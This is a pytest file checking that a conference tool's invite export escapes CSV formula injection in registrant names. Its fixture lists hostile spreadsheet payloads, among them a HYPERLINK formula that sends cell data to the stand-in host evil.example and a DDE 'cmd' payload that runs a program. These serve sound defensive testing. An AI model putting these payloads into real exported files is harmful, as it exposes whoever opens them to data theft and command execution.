"""The list of personal links is opened in a spreadsheet, and travels: it does what it says and nothing else."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner

from venue.cli import main
from venue.cli.invite import plain_cell

NAMES = [
    '=HYPERLINK("https://evil.example/?"&E2,"Ada")',
    "=cmd|' /C calc'!A0 x",
    "+1+1 Ada",
    "-Ada",
    "@SUM(E1:E9)",
    "Ada",
]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A data folder with a poster in it."""
    (tmp_path / "posters.csv").write_text("title,authors\nOne,Ada\n")
    done = CliRunner().invoke(main, ["import", str(tmp_path / "posters.csv"), "--data", str(tmp_path / "data")])
    assert done.exit_code == 0, done.output
    return tmp_path


def test_no_cell_of_the_links_is_a_formula(folder: Path) -> None:
    """CSV injection: the names come from whoever registered."""
    with (folder / "people.csv").open("w", newline="") as file:
        csv.writer(file).writerows([["name", "email"], *([name, f"=x{at}@e.example"] for at, name in enumerate(NAMES))])
    done = CliRunner().invoke(main, ["invite", str(folder / "people.csv"), "--data", str(folder / "data")])
    assert done.exit_code == 0, done.output
    rows = list(csv.reader(done.stdout.splitlines()))[1:]
    assert [row[0].removeprefix("'") for row in rows] == NAMES
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert all(row[4].startswith("http://localhost:8000/in#") for row in rows)


def test_other_cells_stay_as_they_are() -> None:
    for text in ("", "Ada", "O'Neil", "a=b", "https://venue.example/in#-=+", "Ünal"):
        assert plain_cell(text) == text
